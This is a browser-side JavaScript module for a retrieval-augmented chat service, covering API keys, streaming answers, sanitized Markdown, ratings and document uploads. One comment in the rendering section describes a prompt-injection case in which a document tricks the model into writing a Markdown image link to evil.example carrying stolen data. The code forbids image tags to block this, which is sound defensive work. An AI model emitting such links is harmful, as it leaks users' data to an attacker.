// The web chat page: plain ES module, no build step, no network beyond this service.
// Every text from the server is set with textContent, never innerHTML: documents and answers are untrusted. The one
// exception is an answer's Markdown, which marked turns into HTML and DOMPurify sanitizes before it is inserted.

const $ = (selector) => document.querySelector(selector);
const el = (tag, className, text) => {
  const node = document.createElement(tag);
  if (className) node.className = className;
  if (text !== undefined) node.textContent = text;
  return node;
};

// A site that embeds the page can hand it a user token in the address: https://rag.example.com/#token=eyJ...
// It is kept like a pasted key and removed from the address bar (and so from the history).
const handedToken = new URLSearchParams(location.hash.slice(1)).get("token");
if (handedToken) {
  localStorage.setItem("rag.apiKey", handedToken);
  history.replaceState(null, "", location.pathname + location.search);
}

// The claims of a user token (JWT), or null for an API key. Read, never verified: the server verifies.
function tokenClaims(credential) {
  const parts = (credential ?? "").split(".");
  if (parts.length !== 3 || !parts[0].startsWith("eyJ")) return null;
  try {
    return JSON.parse(atob(parts[1].replace(/-/g, "+").replace(/_/g, "/")));
  } catch {
    return null;
  }
}

const store = {
  get userId() {
    // With a user token the page acts as the token's user: the server refuses any other userId.
    const claims = tokenClaims(localStorage.getItem("rag.apiKey"));
    if (claims?.sub) return claims.sub;
    let id = localStorage.getItem("rag.userId");
    if (!id) {
      id = `web-${crypto.randomUUID()}`;
      localStorage.setItem("rag.userId", id);
    }
    return id;
  },
  get chatId() { return localStorage.getItem("rag.chatId"); },
  set chatId(id) { localStorage.setItem("rag.chatId", id); },
};

class ApiError extends Error {
  constructor(status, type, message) {
    super(message);
    this.status = status;
    this.type = type;
  }
}

// fetch that sends the API key when one is stored, asks for one when the service answers 401, and turns every
// failure into one readable message.
async function request(path, options = {}, retried = false) {
  const headers = new Headers(options.headers ?? {});
  const key = localStorage.getItem("rag.apiKey");
  if (key) headers.set("X-API-Key", key);
  let response;
  try {
    response = await fetch(path, { ...options, headers });
  } catch (err) {
    if (err.name === "AbortError") throw err;
    throw new ApiError(0, "network", "Cannot reach the server. Is it running?");
  }
  if (response.status === 401 && !retried) {
    // Several requests can fail at once: ask only if nobody has entered a new key since this one was sent.
    const current = localStorage.getItem("rag.apiKey");
    const entered = current && current !== key ? current : window.prompt("This service needs an API key or a user token:");
    if (entered) {
      localStorage.setItem("rag.apiKey", entered.trim());
      return request(path, options, true);
    }
  }
  if (!response.ok) {
    let type = "http_error";
    let message = `The server answered ${response.status}.`;
    try {
      const body = await response.json();
      type = body.error?.type ?? type;
      message = body.error?.message ?? message;
    } catch { /* not JSON: keep the generic message */ }
    throw new ApiError(response.status, type, message);
  }
  return response;
}

const getJSON = async (path, options) => (await request(path, options)).json();
const postJSON = (path, body, options = {}) =>
  request(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body), ...options });

// Reads the service's SSE stream: JSON objects on `data:` lines, `data: [DONE]` at the end, and, for a resumable
// answer, each event's `id:` (passed along, to resume after it). Lines can be split across network chunks, so text
// is buffered until a whole line is there.
async function readEvents(response, onEvent) {
  const reader = response.body.pipeThrough(new TextDecoderStream()).getReader();
  let buffer = "";
  let id = null;
  for (;;) {
    const { value, done } = await reader.read();
    if (done) return false;
    buffer += value;
    let end;
    while ((end = buffer.indexOf("\n")) >= 0) {
      const line = buffer.slice(0, end).replace(/\r$/, "");
      buffer = buffer.slice(end + 1);
      if (line.startsWith("id:")) id = line.slice(3).trim();
      if (!line.startsWith("data:")) continue;
      const data = line.slice(5).trim();
      if (data === "[DONE]") return true;
      onEvent(JSON.parse(data), id);
    }
  }
}

// Continues a chat's resumable answer with an EventSource: after `lastEventId`, or from its beginning. The browser
// reconnects by itself when the connection drops (sending Last-Event-ID); a 204 (nothing more) closes it.
function followAnswer(chatId, lastEventId, onEvent) {
  const params = new URLSearchParams({ userId: store.userId });
  if (lastEventId) params.set("last_event_id", lastEventId);
  const key = localStorage.getItem("rag.apiKey");
  if (key) params.set("access_token", key); // EventSource cannot set headers
  const source = new EventSource(`api/v1/chats/${encodeURIComponent(chatId)}/stream?${params}`);
  following = source;
  return new Promise((resolve) => {
    source.onmessage = (message) => {
      if (message.data === "[DONE]") {
        source.close();
        resolve(true);
      } else onEvent(JSON.parse(message.data), message.lastEventId);
    };
    source.onerror = () => {
      if (source.readyState === EventSource.CLOSED) resolve(false);
    };
    source.stopped = () => { source.close(); resolve(false); };
  });
}

function showError(message) {
  const box = $("#error");
  box.textContent = message;
  box.hidden = !message;
}

// --- rendering -----------------------------------------------------------------------------------

// The answer's Markdown as sanitized DOM, once the two vendored modules are loaded (see api/web_vendor.py); until
// then, or without them, answers are plain text. Images are dropped: a model tricked by a document into writing
// ![](https://evil.example/?data=...) must not make the browser send anything anywhere.
let markdown = null;
Promise.all([import("./vendor/marked.esm.js"), import("./vendor/purify.js")])
  .then(([{ Marked }, { default: DOMPurify }]) => {
    const parser = new Marked({ gfm: true, breaks: true });
    DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer");
      }
    });
    markdown = (text) => DOMPurify.sanitize(parser.parse(text), { FORBID_TAGS: ["img", "style", "form", "input"] });
    document.body.dataset.markdown = "on";
  })
  .catch(() => { document.body.dataset.markdown = "off"; });

// What a document is called: its title, file name or source, else its id.
const documentName = (meta, id) => meta?.title ?? meta?.filename ?? meta?.source ?? id;

function sourceLabel(source) {
  const name = documentName(source.metadata, source.document_id);
  return source.metadata?.page ? `${name}, p. ${source.metadata.page}` : name;
}

function sourceItem(source) {
  const item = el("li");
  const details = el("details");
  const summary = el("summary");
  summary.append(el("span", "label", `${sourceLabel(source)} `), el("span", "score", `score ${source.score.toFixed(3)}`));
  details.append(summary, el("div", "snippet", source.text));
  if (source.metadata && Object.keys(source.metadata).length) {
    details.append(el("pre", "metadata", JSON.stringify(source.metadata, null, 2)));
  }
  item.append(details);
  return item;
}

// Turns "[2]" in the rendered answer into a button that opens source 2; text in code and links is left alone.
function linkCitations(root, count, open) {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT, {
    acceptNode: (node) => (node.parentElement.closest("code, pre, a, button") ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT),
  });
  const nodes = [];
  while (walker.nextNode()) if (/\[\d+\]/.test(walker.currentNode.nodeValue)) nodes.push(walker.currentNode);
  for (const node of nodes) {
    const parts = node.nodeValue.split(/(\[\d+\])/);
    node.replaceWith(...parts.map((part) => {
      const n = Number(part.slice(1, -1));
      if (!/^\[\d+\]$/.test(part) || n < 1 || n > count) return document.createTextNode(part);
      const cite = el("button", "cite", part);
      cite.type = "button";
      cite.title = `Open source ${n}`;
      cite.addEventListener("click", () => open(n));
      return cite;
    }));
  }
}

function addMessage(role, text = "") {
  const item = el("li", `message ${role}`);
  const body = el("div", "text");
  item.append(body);
  $("#messages").append(item);
  if (role === "assistant") renderAnswer(body, text, []);
  else body.textContent = text;
  item.scrollIntoView({ block: "end" });
  return item;
}

function renderAnswer(body, text, sources, open = () => {}) {
  if (!markdown) {
    body.textContent = text;
    return;
  }
  body.classList.add("markdown");
  body.innerHTML = markdown(text); // sanitized just above: the only innerHTML on the page
  linkCitations(body, sources.length, open);
}

function assistantMessage() {
  const item = addMessage("assistant");
  item.dataset.state = "streaming";
  const body = item.querySelector(".text");
  const reasoning = el("details", "reasoning");
  reasoning.append(el("summary", "", "Reasoning"), el("div", "body"));
  reasoning.hidden = true;
  const sources = el("details", "sources");
  sources.append(el("summary"), el("ol"));
  sources.hidden = true;
  item.prepend(reasoning);
  item.append(sources);
  let text = "";
  let list = [];
  let pending = false;
  const openSource = (n) => {
    sources.open = true;
    const entry = sources.querySelectorAll("ol > li")[n - 1];
    entry.querySelector("details").open = true;
    entry.classList.add("cited");
    setTimeout(() => entry.classList.remove("cited"), 1500);
    entry.scrollIntoView({ block: "nearest" });
  };
  // Re-rendering the whole answer per token would be quadratic; once per frame is enough for the eye.
  const render = () => {
    pending = false;
    renderAnswer(body, text, list, openSource);
  };
  const schedule = () => {
    if (!pending) {
      pending = true;
      requestAnimationFrame(render);
    }
  };
  return {
    item,
    appendText(piece) { text += piece; schedule(); },
    appendReasoning(piece) { reasoning.hidden = false; reasoning.querySelector(".body").textContent += piece; },
    setSources(found) {
      list = found;
      sources.hidden = found.length === 0;
      sources.querySelector("summary").textContent = `Sources (${found.length})`;
      sources.querySelector("ol").replaceChildren(...found.map(sourceItem));
      schedule();
    },
    finish(state, note) {
      render();
      item.dataset.state = state;
      item.dataset.raw = text;
      if (note) item.append(el("div", state === "failed" ? "failure" : "meta", note));
      if (text) {
        const copy = el("button", "ghost copy", "Copy answer");
        copy.type = "button";
        copy.addEventListener("click", async () => {
          try {
            await navigator.clipboard.writeText(text);
            copy.textContent = "Copied";
          } catch {
            copy.textContent = "Copy failed";
          }
          setTimeout(() => { copy.textContent = "Copy answer"; }, 1500);
        });
        item.append(copy);
      }
    },
  };
}

// --- feedback --------------------------------------------------------------------------------------

// Thumbs up and down under a stored answer (POST /api/v1/chats/{chatId}/feedback). `index` is the answer's place in
// the stored chat; unknown for an answer just streamed, which is the chat's last one (the service's default) until
// the first rating tells the page its index. A thumb down opens a field for what was wrong.
function addRating(item, chatId, index, current = null) {
  const box = el("div", "rating");
  const thumb = (rating, symbol, label) => {
    const button = el("button", "ghost thumb", symbol);
    button.type = "button";
    button.title = label;
    button.setAttribute("aria-label", label);
    button.dataset.rating = rating;
    button.addEventListener("click", () => send({ rating }));
    return button;
  };
  const up = thumb("up", "\u{1F44D}", "Good answer");
  const down = thumb("down", "\u{1F44E}", "Bad answer");
  const form = el("form", "rating-comment");
  const comment = el("input");
  comment.placeholder = "What was wrong? (optional)";
  comment.maxLength = 4000;
  const submit = el("button", "ghost", "Send");
  form.append(comment, submit);
  form.addEventListener("submit", (event) => {
    event.preventDefault();
    send({ rating: "down", comment: comment.value.trim() || null }).then(() => { form.hidden = true; });
  });
  const show = (rating) => {
    item.dataset.rating = rating ?? "";
    up.setAttribute("aria-pressed", String(rating === "up"));
    down.setAttribute("aria-pressed", String(rating === "down"));
  };
  async function send(body) {
    if (index !== null) body.messageIndex = index;
    try {
      const response = await postJSON(
        `api/v1/chats/${encodeURIComponent(chatId)}/feedback?userId=${encodeURIComponent(store.userId)}`, body,
      );
      const saved = await response.json();
      index = saved.message_index;
      show(saved.rating);
      form.hidden = saved.rating !== "down" || "comment" in body;
    } catch (err) {
      showError(`The rating was not saved: ${err.message}`);
    }
  }
  form.hidden = true;
  show(current);
  box.append(up, down, form);
  item.append(box);
}

// --- chats -----------------------------------------------------------------------------------------

async function loadChats() {
  try {
    const { chats } = await getJSON(`api/v1/chats?userId=${encodeURIComponent(store.userId)}`);
    $("#chat-list").replaceChildren(...chats.map((chat) => {
      const item = el("li");
      const button = el("button", "", chat.title || "Untitled chat");
      button.setAttribute("aria-current", String(chat.chatId === store.chatId));
      button.addEventListener("click", () => openChat(chat.chatId));
      item.append(button);
      return item;
    }));
  } catch (err) {
    showError(err.message);
  }
}

async function openChat(chatId) {
  store.chatId = chatId;
  $("#messages").replaceChildren();
  try {
    const chat = await getJSON(`api/v1/chats/${encodeURIComponent(chatId)}?userId=${encodeURIComponent(store.userId)}`);
    chat.messages.forEach((message, index) => {
      const item = addMessage(message.role, message.content);
      if (message.role === "assistant") addRating(item, chatId, index, message.rating);
    });
    if (chat.answer?.status === "running" && !controller && !following) continueAnswer(chatId, chat.answer.question);
  } catch (err) {
    if (err.status !== 404) showError(err.message); // 404: a new chat with nothing stored yet
  }
  loadChats();
}

function newChat() {
  store.chatId = crypto.randomUUID();
  $("#messages").replaceChildren();
  showError("");
  loadChats();
}

// --- asking ----------------------------------------------------------------------------------------

let controller = null; // the request of the answer being asked
let following = null; // the EventSource continuing an answer

// Shows one event of the answer; returns the error message of an error event.
function showEvent(answer, event) {
  if (event.sources) answer.setSources(event.sources);
  if (event.reasoning) answer.appendReasoning(event.reasoning);
  if (event.content) answer.appendText(event.content);
  answer.item.scrollIntoView({ block: "end" });
  return event.error?.message ?? null;
}

function busy(on) {
  $("#send").disabled = on;
  $("#stop").disabled = !on;
}

// The page always asks for a resumable answer: a dropped connection, a reload or a closed lid loses nothing; the
// answer goes on on the server and the page continues it from the last event it showed.
async function ask(question) {
  showError("");
  addMessage("user", question);
  const answer = assistantMessage();
  const chatId = store.chatId;
  controller = new AbortController();
  busy(true);
  let failure = null;
  let lastId = null;
  const onEvent = (event, id) => {
    failure = showEvent(answer, event) ?? failure;
    lastId = id ?? lastId;
  };
  try {
    const response = await postJSON(
      "api/v1/chat",
      { messages: [{ role: "user", content: question }], stream: true, userId: store.userId, chatId, resumable: true },
      { signal: controller.signal },
    );
    let complete = await readEvents(response, onEvent);
    if (!complete && !controller.signal.aborted) complete = await followAnswer(chatId, lastId, onEvent);
    finishAnswer(answer, complete, failure, chatId);
  } catch (err) {
    if (err.name === "AbortError") answer.finish("stopped", "Stopped.");
    else if (lastId) finishAnswer(answer, await followAnswer(chatId, lastId, onEvent), failure, chatId);
    else {
      answer.finish("failed", err.message);
      showError(err.message);
    }
  } finally {
    controller = null;
    following = null;
    busy(false);
    loadChats();
    loadUsage();
    setTimeout(loadUsage, 1500);
  }
}

// What this page's user spent this month (GET /api/v1/usage): read on load and after each answer, and once more a
// moment later, since the service writes its counts every USAGE_FLUSH_SECONDS.
async function loadUsage() {
  const note = $("#usage");
  try {
    const body = await getJSON(`api/v1/usage?group_by=kind&userId=${encodeURIComponent(store.userId)}`);
    const answers = body.rows.find((row) => row.kind === "answer");
    if (!answers) {
      note.textContent = "No answers yet this month.";
      return;
    }
    const tokens = (answers.prompt_tokens + answers.completion_tokens).toLocaleString("en");
    const estimated = answers.estimated ? ` (${answers.estimated} estimated)` : "";
    const plural = answers.requests === 1 ? "" : "s";
    note.textContent = `This month: ${answers.requests} answer${plural}, ${tokens} tokens${estimated}.`;
  } catch (err) {
    note.textContent = `Usage unavailable: ${err.message}`;
  }
}

function finishAnswer(answer, complete, failure, chatId) {
  if (answer.item.dataset.state !== "streaming") return; // stopped meanwhile
  if (failure) answer.finish("failed", `The answer failed: ${failure}`);
  else if (!complete) answer.finish("failed", "The connection closed before the answer was complete.");
  else {
    answer.finish("done");
    addRating(answer.item, chatId, null); // a complete answer is stored with its chat: it can be rated
  }
}

// After a reload, or on opening a chat whose answer is still running: show it from its beginning as it goes on.
async function continueAnswer(chatId, question) {
  addMessage("user", question);
  const answer = assistantMessage();
  busy(true);
  let failure = null;
  try {
    const complete = await followAnswer(chatId, null, (event) => { failure = showEvent(answer, event) ?? failure; });
    finishAnswer(answer, complete, failure, chatId);
  } finally {
    following = null;
    busy(false);
    loadChats();
  }
}

async function stop() {
  const chatId = store.chatId;
  controller?.abort();
  if (following) {
    following.stopped();
    const answer = document.querySelector(".message.assistant:last-child");
    if (answer?.dataset.state === "streaming") {
      answer.dataset.state = "stopped";
      answer.append(el("div", "meta", "Stopped."));
    }
  }
  try {
    await request(`api/v1/chats/${encodeURIComponent(chatId)}/stop?userId=${encodeURIComponent(store.userId)}`, { method: "POST" });
  } catch (err) {
    showError(err.message);
  }
}

// --- documents -------------------------------------------------------------------------------------

async function addDocuments(documents, metadatas) {
  const result = $("#add-result");
  result.textContent = "Adding…";
  try {
    const response = await postJSON("api/v1/documents/add", { documents, metadatas });
    const body = await response.json();
    if (response.status === 202) {
      result.textContent = "";
      await followJob(body);
    } else {
      const chunks = body.documents.reduce((sum, doc) => sum + doc.chunks, 0);
      result.textContent = `Added ${body.documents.length} document(s), ${chunks} chunk(s).`;
    }
    refreshStatus();
    loadDocuments();
    return true;
  } catch (err) {
    result.textContent = `Could not add: ${err.message}`;
    return false;
  }
}

// One row per file: its name, a progress bar fed by the job's event stream, and its state or error.
function uploadRow(name) {
  const item = el("li", "upload");
  const bar = el("progress");
  bar.max = 1;
  bar.value = 0;
  item.append(el("span", "name", name), bar, el("span", "state", "uploading…"));
  item.dataset.state = "uploading";
  $("#uploads").prepend(item);
  return item;
}

function showFile(row, file) {
  const bar = row.querySelector("progress");
  const state = row.querySelector(".state");
  row.dataset.state = file.state;
  if (file.chunks_total) bar.value = file.state === "done" ? 1 : file.chunks_done / file.chunks_total;
  else if (file.state === "parsing") bar.removeAttribute("value"); // indeterminate until the chunks are known
  const percent = Math.round((bar.position >= 0 ? bar.position : 0) * 100);
  state.textContent = {
    queued: "queued",
    parsing: "reading…",
    embedding: `${percent}% (${file.chunks_done}/${file.chunks_total} chunks)`,
    done: `100% · ${file.chunks_total} chunk${file.chunks_total === 1 ? "" : "s"}`,
    failed: `failed: ${file.error}`,
    cancelled: "cancelled",
  }[file.state];
  row.classList.toggle("failed", file.state === "failed");
  bar.hidden = file.state === "failed" || file.state === "cancelled";
}

const FINISHED = ["done", "failed", "cancelled"];
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// Follows a job's event stream to its end. A job outlives a restart of the service (it resumes), so a stream cut
// short is opened again, a second later, until the job has finished.
async function followJob(job, rows) {
  rows ??= job.files.map((file) => uploadRow(file.name));
  const show = (snapshot) => snapshot.files.forEach((file, n) => showFile(rows[n], file));
  show(job);
  let last = job;
  while (!FINISHED.includes(last.state)) {
    try {
      const response = await request(`api/v1/jobs/${encodeURIComponent(job.id)}/events`);
      await readEvents(response, (snapshot) => {
        last = snapshot;
        show(snapshot);
      });
    } catch (err) {
      if (err.status === 404) throw err; // forgotten, or not ours: nothing to wait for
    }
    if (!FINISHED.includes(last.state)) await pause(1000);
  }
  return last;
}

async function uploadFiles(files) {
  const rows = files.map((file) => uploadRow(file.name));
  const form = new FormData();
  for (const file of files) form.append("files", file, file.name);
  try {
    const job = await (await request("api/v1/documents/upload", { method: "POST", body: form })).json();
    await followJob(job, rows);
  } catch (err) {
    for (const row of rows) {
      row.querySelector("progress").hidden = true;
      row.dataset.state = "failed";
      row.classList.add("failed");
      row.querySelector(".state").textContent = `failed: ${err.message}`;
    }
  }
  refreshStatus();
  loadDocuments();
}

let documentsShown = 0;

async function loadDocuments(more = false) {
  const list = $("#doc-list");
  const offset = more ? documentsShown : 0;
  try {
    const page = await getJSON(`api/v1/documents?offset=${offset}&limit=50`);
    const items = page.documents.map((doc) => {
      const item = el("li");
      const label = documentName(doc.metadata, doc.id);
      const remove = el("button", "ghost small", "Delete");
      remove.type = "button";
      remove.setAttribute("aria-label", `Delete ${label}`);
      remove.addEventListener("click", async () => {
        remove.disabled = true;
        try {
          await request(`api/v1/documents/${encodeURIComponent(doc.id)}`, { method: "DELETE" });
          item.remove();
          refreshStatus();
        } catch (err) {
          remove.disabled = false;
          showError(err.message);
        }
      });
      item.append(el("span", "label", label), el("span", "score", ` ${doc.chunks} chunk(s)`), remove);
      item.title = doc.preview;
      return item;
    });
    if (more) list.append(...items);
    else list.replaceChildren(...items);
    documentsShown = offset + items.length;
    $("#doc-count").textContent = `(${page.total})`;
    $("#more-docs").hidden = documentsShown >= page.total;
  } catch (err) {
    list.replaceChildren(el("li", "failure", err.message));
  }
}

async function search(query) {
  const list = $("#search-results");
  list.replaceChildren(el("li", "note", "Searching…"));
  try {
    const { results } = await getJSON(`api/v1/documents/search?query=${encodeURIComponent(query)}&top_k=5`);
    list.replaceChildren(...(results.length ? results.map(sourceItem) : [el("li", "note", "No matching passages.")]));
  } catch (err) {
    list.replaceChildren(el("li", "failure", err.message));
  }
}

async function refreshStatus() {
  const status = $("#status");
  try {
    const health = await getJSON("api/v1/health");
    status.textContent = `${health.llm.provider} · ${health.llm.model} · ${health.store.documents} documents`;
    status.classList.remove("down");
  } catch (err) {
    status.textContent = err.message;
    status.classList.add("down");
  }
}

// --- wiring ----------------------------------------------------------------------------------------

$("#ask").addEventListener("submit", (event) => {
  event.preventDefault();
  const question = $("#question").value.trim();
  if (!question || controller || following) return;
  $("#question").value = "";
  ask(question);
});
$("#question").addEventListener("keydown", (event) => {
  if (event.key === "Enter" && !event.shiftKey) {
    event.preventDefault();
    $("#ask").requestSubmit();
  }
});
$("#stop").addEventListener("click", stop);
$("#new-chat").addEventListener("click", newChat);
$("#toggle-docs").addEventListener("click", () => {
  const open = $("#docs").classList.toggle("open");
  $("#toggle-docs").setAttribute("aria-expanded", String(open));
});
$("#add-form").addEventListener("submit", async (event) => {
  event.preventDefault();
  const text = $("#doc-text").value.trim();
  if (!text) return;
  const title = $("#doc-title").value.trim();
  if (await addDocuments([text], [title ? { title } : {}])) {
    $("#doc-text").value = "";
    $("#doc-title").value = "";
  }
});
$("#doc-files").addEventListener("change", (event) => {
  const files = [...event.target.files];
  event.target.value = "";
  if (files.length) uploadFiles(files);
});
const drop = $("#drop");
drop.addEventListener("click", () => $("#doc-files").click());
drop.addEventListener("keydown", (event) => {
  if (event.key === "Enter" || event.key === " ") $("#doc-files").click();
});
drop.addEventListener("dragover", (event) => {
  event.preventDefault();
  drop.classList.add("over");
});
drop.addEventListener("dragleave", () => drop.classList.remove("over"));
drop.addEventListener("drop", (event) => {
  event.preventDefault();
  drop.classList.remove("over");
  const files = [...event.dataTransfer.files];
  if (files.length) uploadFiles(files);
});
$("#more-docs").addEventListener("click", () => loadDocuments(true));
$("#search-form").addEventListener("submit", (event) => {
  event.preventDefault();
  search($("#search-query").value.trim());
});

refreshStatus();
loadDocuments();
loadUsage();
if (store.chatId) openChat(store.chatId);
else newChat();
